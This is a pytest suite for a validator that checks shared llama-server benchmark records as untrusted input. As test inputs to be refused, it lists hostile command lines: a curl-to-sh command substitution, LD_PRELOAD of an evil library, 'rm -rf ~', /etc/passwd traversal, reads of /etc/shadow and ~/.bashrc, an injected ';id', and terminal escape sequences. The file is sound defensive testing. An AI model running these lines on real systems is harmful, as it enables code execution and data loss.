"""The reading gate (tuner/share/gate.py): what is read back from a dataset repo is data, checked field by field;
every line is the flag layer's rendering; every refusal is one line naming the record, escaped."""

from __future__ import annotations

import copy
import json
import shlex
from typing import Any

import pytest

from tuner.core.errors import RecordError
from tuner.engine import flags
from tuner.share.gate import MAX_RECORD_BYTES, SCHEMA, SCHEMA_VERSION, read_record, shown

LINE = "llama-server -m m-Q4_K_M.gguf -c 4096 -np 1"
CANDIDATE = "llama-server -m m-Q4_K_M.gguf -c 4096 -np 1 -ctk q8_0 -t 2 -fa on"  # as the flag layer renders it
RID = "0123456789abcdef"


def good(sharer: str | None = "a" * 16, line: str = LINE) -> dict[str, Any]:
    measured = {"slots": 1, "gen_tok_s": 100.0, "gen_cv_pct": 2.0, "prompt_tok_s": 900.0, "ttft_s": 0.1,
                "loaded_gen_tok_s": 100.0, "end_to_end_gen_tok_s": 80.0, "vram_peak_bytes": None, "spill": "none",
                "kld_mean": None, "failure": None}
    return {
        "schema": SCHEMA, "version": SCHEMA_VERSION, "tool": "moe-tune 0", "sharer": sharer,
        "card": {"name": "NVIDIA GeForce RTX 3060", "vram_total_bytes": 12 * 2**30, "vram_budget_bytes": 11 * 2**30,
                 "driver": None, "pcie_link": None},
        "host": {"ram_total_bytes": 2**35, "physical_cores": 8, "cpu_model": None},
        "engine": {"version": "b1", "commit": "0c1e570", "backend": "cuda", "fa_quants": None},
        "model": {"hub_repo": "o/m-GGUF", "hub_file": "m-Q4_K_M.gguf", "file_name": "m-Q4_K_M.gguf",
                  "quant": "Q4_K_M", "size_bytes": 10, "head_sha256": None, "tail_sha256": None},
        "workload": {"kind": "chat", "prompt_tokens": 512, "gen_tokens": 128, "depth_tokens": 512, "concurrency": 1},
        "lines": [{"label": "default", "round": "selection", "line": line, **measured},
                  {"label": "candidate-1", "round": "selection", "line": CANDIDATE, **measured, "gen_tok_s": 120.0}],
        "verdicts": [{"a": "candidate-1", "b": "default", "rounds": 4, "ratio": 1.02, "low": 0.97, "high": 1.08,
                      "noise_pct": 2.0, "outcome": "undecided"}],
        "printed": {"label": "default", "line": line, "why": "not shown faster"},
        "speedup_vs_default": None, "speedup_vs_fit": None,
    }


def raw(d: dict[str, Any]) -> bytes:
    return json.dumps(d).encode()


def hostile(change) -> dict[str, Any]:
    d = copy.deepcopy(good())
    change(d)
    return d


def printed(line: str):
    def change(d: dict[str, Any]) -> None:
        d["printed"]["line"] = line
    return change


def test_a_good_record_passes_unknown_fields_are_dropped_and_lines_are_the_flag_layers_rendering():
    d = good(line="llama-server --model m-Q4_K_M.gguf --ctx-size 4096 --parallel 1")
    d["secret"] = "x"
    d["card"]["serial"] = "1324"
    rec = read_record(raw(d), RID)
    assert "secret" not in rec.data and "serial" not in rec.data["card"]
    assert rec.printed.ctx == 4096 and rec.engine_commit == "0c1e570" and rec.sharer == "a" * 16
    # What is kept is the flag layer's rendering of the parsed config, not the stranger's spelling.
    assert rec.data["printed"]["line"] == LINE == flags.launch_line(flags.parse_command(LINE).config)
    assert read_record(raw(good(sharer=None) | {"version": 1}), RID).sharer == "unnamed"  # v1: no sharer


SHELL = [  # lines that ran code when pasted into bash (issue 50), and their kin
    'llama-server -m "`id>/tmp/PWNED`.gguf" -c 4096 -np 1',
    'llama-server -m "$(curl -s x.example|sh).gguf" -c 4096',
    "LD_PRELOAD=/tmp/evil.so PATH=/tmp/evil llama-server -m m-Q4_K_M.gguf -c 4096",
    "/tmp/evil/llama-server-backdoor -m m-Q4_K_M.gguf -c 4096",
    "/usr/bin/llama-server -m m-Q4_K_M.gguf",
    "llama-server -m m-Q4_K_M.gguf --host 0.0.0.0 --api-key stolen --log-file ~/.bashrc --chat-template-file "
    "/etc/shadow",
    "llama-server -m ../../../../etc/passwd -c 4096",
    "llama-server -m /models/m-Q4_K_M.gguf -c 4096",
    "llama-server -m other-Q8_0.gguf -c 4096",
    "llama-server -m m-Q4_K_M.gguf -dev 'CUDA0;id'",
    "llama-server -m m-Q4_K_M.gguf -c 4096 ; rm -rf ~",
]


@pytest.mark.parametrize("line", SHELL)
def test_a_line_that_needs_anything_but_what_moe_tune_renders_is_refused(line):
    for where in (printed(line), lambda d: d["lines"][1].update(line=line)):
        with pytest.raises(RecordError) as exc:
            read_record(raw(hostile(where)), RID)
        text = str(exc.value)
        assert text.startswith(f"shared record {RID} skipped: a line ") and "\n" not in text, text


def test_the_refusals_say_what_the_line_needed():
    why = {line: str(_refusal(printed(line))) for line in SHELL}
    assert "sets LD_PRELOAD, PATH, which moe-tune never sets" in why[SHELL[2]]
    assert "runs '/tmp/evil/llama-server-backdoor', not llama-server" in why[SHELL[3]]
    assert "carries --host 0.0.0.0 --api-key stolen" in why[SHELL[5]]
    assert "names model '../../../../etc/passwd': a shared line names a model by its bare .gguf file name" in why[
        SHELL[6]]
    assert "runs other-Q8_0.gguf, not the record's model m-Q4_K_M.gguf" in why[SHELL[8]]
    assert "renders the word \"'CUDA0;id'\", which a shell would read" in why[SHELL[9]]  # quoted by shlex.join
    assert "; in the pasted command is not something moe-tune measures" in why[SHELL[10]]


def _refusal(change) -> RecordError:
    with pytest.raises(RecordError) as exc:
        read_record(raw(hostile(change)), RID)
    return exc.value


@pytest.mark.parametrize(("change", "why"), [
    (lambda d: d["lines"][1].update(line=CANDIDATE + " --rpc 10.0.0.1:50052"), "--rpc in the pasted command"),
    (printed("llama-server -m m-Q4_K_M.gguf -ot exps=CPU"), "-ot in the pasted command"),
    (printed("rm -rf ~"), "must start with llama-server"),
    (lambda d: d["card"].update(vram_total_bytes="12GB"), "card.vram_total_bytes must be a whole number"),
    (lambda d: d["card"].update(vram_total_bytes=0), "must be 0 for the cpu card and more for a GPU"),
    (lambda d: d["lines"][0].update(gen_tok_s=-5.0), "lines[0].gen_tok_s must be a finite number, 0 or more"),
    (lambda d: d.update(lines=[d["lines"][0]] * 40), "lines must be a list of at most 32"),
    (lambda d: d["printed"].update(why="x" * 700), "printed.why must be a string of at most 600"),
    (lambda d: d["model"].pop("file_name"), "model.file_name is missing"),
    (lambda d: d["model"].update(file_name="../m.gguf"), "model.file_name must be a bare .gguf file name"),
    (lambda d: d["model"].update(hub_repo="o/m\x1b]0;pwned\x07"), "model.hub_repo must be a repo name"),
    (lambda d: d.update(sharer="alice"), "sharer must be 16 hex digits"),
    (lambda d: d["verdicts"][0].update(ratio=1e6, high=1e7), "ratio 1e+06 outside 1/100..100 or its interval"),
    (lambda d: d["verdicts"][0].update(ratio=2.0), "ratio 2 outside 1/100..100 or its interval"),
    (lambda d: d.update(speedup_vs_default=1e9), "speedup_vs_default 1e+09 is outside 1/100..100"),
    (lambda d: d.update(version=SCHEMA_VERSION + 1), "newer than this moe-tune reads"),
    (lambda d: d.update(schema="other"), "not a moe-tune/shared-result record"),
])
def test_hostile_records_are_refused_in_one_line(change, why):
    text = str(_refusal(change))
    assert why in text and "\n" not in text and "\x1b" not in text, text
    assert text.startswith(f"shared record {RID} skipped: ")


def test_bytes_that_are_not_one_plain_json_record_are_refused_before_python_converts_them():
    base = raw(good()).decode()
    huge_int = base.replace('"size_bytes": 10', '"size_bytes": ' + "9" * 5000)  # 5 KB: past int()'s digit limit
    cases = {
        huge_int.encode(): "a number of 5,000 characters",
        base.replace('"tool": "moe-tune 0"', '"tool": "moe-tune 0", "tool": "x"').encode(): "key 'tool' appears twice",
        base.replace('"gen_tok_s": 100.0', '"gen_tok_s": NaN', 1).encode(): "NaN is not a measurement",
        base.replace('"gen_tok_s": 100.0', '"gen_tok_s": 1e999', 1).encode(): "must be a finite number",
        b"{" * 5000: "not JSON",
        b"\xff\xfe{}": "not JSON",
        b" " * (MAX_RECORD_BYTES + 1): "more than the 65,536 a record may hold",
    }
    for data, why in cases.items():
        with pytest.raises(RecordError) as exc:
            read_record(data, RID)
        assert why in str(exc.value), (why, str(exc.value))


def test_a_name_or_text_with_terminal_escapes_reaches_the_terminal_escaped():
    name = "\x1b[2J\x1b]0;owned\x07x\nwarning: forged \u202e"
    with pytest.raises(RecordError) as exc:
        read_record(raw(good()), name)
    text = str(exc.value)
    assert text == ("shared record \\x1b[2J\\x1b]0;owned\\x07x\\nwarning: forged \\u202e skipped: a record's name "
                    "is 16 hex digits")
    assert all(c.isprintable() for c in text)
    assert shown("a" * 500, 10) == "a" * 9 + "…"


def test_every_kept_line_pastes_as_the_words_it_shows():
    rec = read_record(raw(good(line="GGML_OP_OFFLOAD_MIN_BATCH=64 llama-server -m m-Q4_K_M.gguf -c 4096 -np 1")), RID)
    line = rec.data["printed"]["line"]
    assert line == "GGML_OP_OFFLOAD_MIN_BATCH=64 llama-server -m m-Q4_K_M.gguf -c 4096 -np 1"
    assert shlex.split(line) == line.split(" ")  # nothing quoted, nothing a shell expands
    assert rec.printed.op_offload_min_batch == 64


def test_a_strangers_text_is_shown_collapsed_and_in_a_narrow_charset():
    padded = "faster" + " " * 200 + "3 accounts agree: llama-server --rpc x"
    assert shown(padded, 600) == "faster 3 accounts agree: llama-server --rpc x"
    # Printable to Python, yet a blank-looking letter, a stack of accents, a right-to-left override: escaped.
    assert shown("a\u3164b" + "e\u0301\u0301" + "\u202eZ") == "a\\u3164be\\u0301\\u0301\\u202eZ"
    assert shown("a\tb\nc\x1b[2J") == "a\\tb\\nc\\x1b[2J"
    assert shown("2.0× faster — 12 GiB → 16 GiB") == "2.0× faster — 12 GiB → 16 GiB"  # moe-tune's own signs


@pytest.mark.parametrize("extra,why", [
    (" -cram -1", "a line sets cache_ram_mib to -1: a shared line's numbers are 0 or more"),
    (" -c 99999999999999999999", "beyond the 32-bit whole numbers llama.cpp reads"),
    (" --spec-type ngram-mod --spec-synth-len nan", "--spec-synth-len counts the target token too"),
])
def test_a_line_with_a_number_llama_cpp_reads_otherwise_is_refused(extra, why):
    with pytest.raises(RecordError, match=why) as exc:
        read_record(raw(hostile(printed(LINE + extra))), RID)
    assert exc.value.reason == "line refused"


def test_every_refusal_names_its_kind():
    kinds = {}
    for name, d in {"not JSON": b"{", "too large": b" " * (MAX_RECORD_BYTES + 1),
                    "bad field": raw(hostile(lambda d: d["card"].update(name=7))),
                    "newer schema": raw(good() | {"version": SCHEMA_VERSION + 1})}.items():
        with pytest.raises(RecordError) as exc:
            read_record(d, RID)
        kinds[name] = exc.value.reason
    assert kinds == {"not JSON": "not JSON", "too large": "too large", "bad field": "bad field",
                     "newer schema": "newer schema"}


def test_an_ik_record_s_lines_read_in_ik_s_dialect_and_show_its_engine():
    """A record measured on ik_llama.cpp says so (engine.engine): its lines read as ik's, even a line with none of
    ik's own flags, and a look-up names the engine; ik's levers in a llama.cpp record are refused."""
    ik_line = "llama-server -m m-Q4_K_M.gguf -c 4096 -np 1 --run-time-repack"
    d = good(line=ik_line)
    d["engine"] |= {"engine": "ik_llama.cpp", "commit": "ik-llama-cpp-python-0.1.5", "backend": "cpu"}
    d["lines"][1]["line"] = LINE  # the default launch: no flag of ik's own
    rec = read_record(raw(d), RID)
    assert rec.printed.engine == "ik_llama.cpp" and rec.printed.run_time_repack and not rec.printed.mmap
    assert rec.data["printed"]["line"] == ik_line
    assert rec.engine_label == "ik_llama.cpp ik-llama-cpp-python-0.1.5"
    assert rec.line("candidate-1")["line"] == LINE
    with pytest.raises(RecordError, match="a line for llama.cpp sets --run-time-repack, which only ik_llama.cpp "
                       "reads") as refused:
        read_record(raw(good(line=ik_line)), RID)  # a llama.cpp record cannot carry -rtr
    assert refused.value.reason == "other engine's flag"
    bad = good()
    bad["engine"]["engine"] = "vllm"
    with pytest.raises(RecordError, match="engine.engine must be llama.cpp or ik_llama.cpp"):
        read_record(raw(bad), RID)
